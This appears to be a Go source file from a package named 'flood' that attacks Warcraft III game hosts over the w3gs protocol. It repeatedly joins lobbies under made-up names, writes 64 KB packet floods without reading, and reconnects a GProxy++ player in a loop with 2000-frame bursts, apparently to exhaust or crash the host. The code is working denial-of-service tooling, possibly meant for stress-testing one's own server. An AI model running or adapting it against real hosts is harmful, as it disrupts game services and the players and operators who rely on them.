package flood

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"time"

	"w3host/protocol/w3gs"
)

// player is a connection that has joined a lobby.
type player struct {
	net.Conn
	pid  uint8
	size uint32 // of the map
	got  uint32 // game packets received
	key  uint32 // reconnect key, once offered
}

// inLobby repeatedly joins a lobby and runs do with the player.
func inLobby(do func(*player)) func(context.Context, Target) {
	return many(1, func(ctx context.Context, t Target) {
		p := enter(t)
		if p == nil {
			pause(ctx, 20*time.Millisecond)
			return
		}
		defer p.Close()
		defer context.AfterFunc(ctx, func() { _ = p.Close() })()
		do(p)
	})
}

// flood writes a packet endlessly without reading.
func (p *player) flood(packet []byte) {
	var b []byte
	for len(b) < 64<<10 {
		b = append(b, packet...)
	}
	for {
		if _, err := p.Write(b); err != nil {
			return
		}
	}
}

// tries is the number of lobby IDs to try.
const tries = 40

// enter joins a lobby, or returns nil.
func enter(t Target) *player {
	for id := t.Game; id < t.Game+tries; id++ {
		c := connect(t, somewhere())
		if c == nil {
			return nil
		}
		p := &player{Conn: c}
		join := w3gs.ReqJoin{GameID: id, EntryKey: t.Key, Name: name(), Extra: []byte{0}, ListenPort: 6112}
		if _, err := c.Write(join.AppendTo(nil)); err == nil && p.welcomed() {
			return p
		}
		_ = c.Close()
	}
	return nil
}

// welcomed reads up to the map check.
func (p *player) welcomed() bool {
	_ = p.SetReadDeadline(time.Now().Add(5 * time.Second))
	for {
		op, body, err := p.next()
		switch {
		case err != nil || op == byte(w3gs.OpRejectJoin):
			return false
		case op == byte(w3gs.OpSlotInfoJoin):
			table := int(binary.LittleEndian.Uint16(body))
			p.pid = body[2+table]
		case op == byte(w3gs.OpMapCheck):
			path := strings.IndexByte(string(body[4:]), 0)
			p.size = binary.LittleEndian.Uint32(body[4+path+1:])
			return p.SetReadDeadline(time.Time{}) == nil
		}
	}
}

// next reads one packet of the game or of the GProxy++ extension.
func (p *player) next() (op byte, body []byte, err error) {
	head := make([]byte, w3gs.HeaderSize)
	if _, err := io.ReadFull(p, head); err != nil {
		return 0, nil, err
	}
	body = make([]byte, max(int(binary.LittleEndian.Uint16(head[2:]))-len(head), 0))
	if _, err = io.ReadFull(p, body); head[0] != w3gs.Magic {
		return head[1] | proxied, body, err
	}
	p.got++
	return head[1], body, err
}

// proxied marks opcodes of the GProxy++ extension.
const proxied = 0x80

// returning joins a lobby with two players, one of them with a GProxy++, starts the game, and reconnects the
// proxied player constantly with as many packets as possible.
func returning(ctx context.Context, t Target) {
	for ctx.Err() == nil {
		p, other := enter(t), enter(t)
		if p != nil && other != nil {
			stop := context.AfterFunc(ctx, func() { _, _ = p.Close(), other.Close() })
			p.comeBack(ctx, t, other)
			stop()
		}
		for _, p := range []*player{p, other} {
			if p != nil {
				_ = p.Close()
			}
		}
		pause(ctx, 50*time.Millisecond)
	}
}

func (p *player) comeBack(ctx context.Context, t Target, other *player) {
	go other.play(0) // ends with its connection
	_, _ = p.Write([]byte{0xF8, 1, 8, 0, 1, 0, 0, 0})
	say := w3gs.ChatToHost{Chat: w3gs.Chat{To: []uint8{p.pid}, From: p.pid, Flag: w3gs.ChatLobby, Text: "!start now"}}
	time.AfterFunc(300*time.Millisecond, func() { _, _ = p.Write(say.AppendTo(nil)) }) // for lobbies that do not start by themselves
	p.play(10)
	var burst []byte
	for range 2000 {
		burst = append(burst, frame(0x77, 4)...)
	}
	for ctx.Err() == nil {
		c := connect(t, oneAddress)
		if c == nil {
			return
		}
		answer := make([]byte, 8)
		_, _ = c.Write(returns(p.pid, p.key, p.got))
		_ = c.SetReadDeadline(time.Now().Add(time.Second))
		if _, err := io.ReadFull(c, answer); err == nil && answer[1] == 4 {
			_ = c.Close()
			return // the game is over
		}
		_, _ = c.Write(burst)
		pause(ctx, 5*time.Millisecond)
		_ = c.Close()
	}
}

// returns builds a RECONNECT request.
func returns(pid uint8, key, last uint32) []byte {
	b := []byte{0xF8, 2, 13, 0, pid}
	return binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(b, key), last)
}

// play answers like a client until the connection ends or most turns have arrived; 0 means no limit.
func (p *player) play(most int) {
	for turns := 0; most == 0 || turns < most; {
		op, body, err := p.next()
		if err != nil {
			return
		}
		var answer w3gs.Packet
		switch w3gs.Op(op) {
		case proxied | 1:
			p.key = binary.LittleEndian.Uint32(body[3:])
		case w3gs.OpPingFromHost:
			answer = &w3gs.PongToHost{Tick: binary.LittleEndian.Uint32(body)}
		case w3gs.OpSlotInfo:
			if p.size > 0 {
				answer, p.size = &w3gs.MapSize{Flag: w3gs.MapHave, Size: p.size}, 0
			}
		case w3gs.OpCountdownEnd:
			answer = &w3gs.LoadedSelf{}
		case w3gs.OpIncomingAction:
			if binary.LittleEndian.Uint16(body) > 0 {
				turns++
				answer = &w3gs.Keepalive{Checksum: uint32(turns)}
			}
		}
		if answer != nil {
			_, _ = p.Write(answer.AppendTo(nil))
		}
	}
}
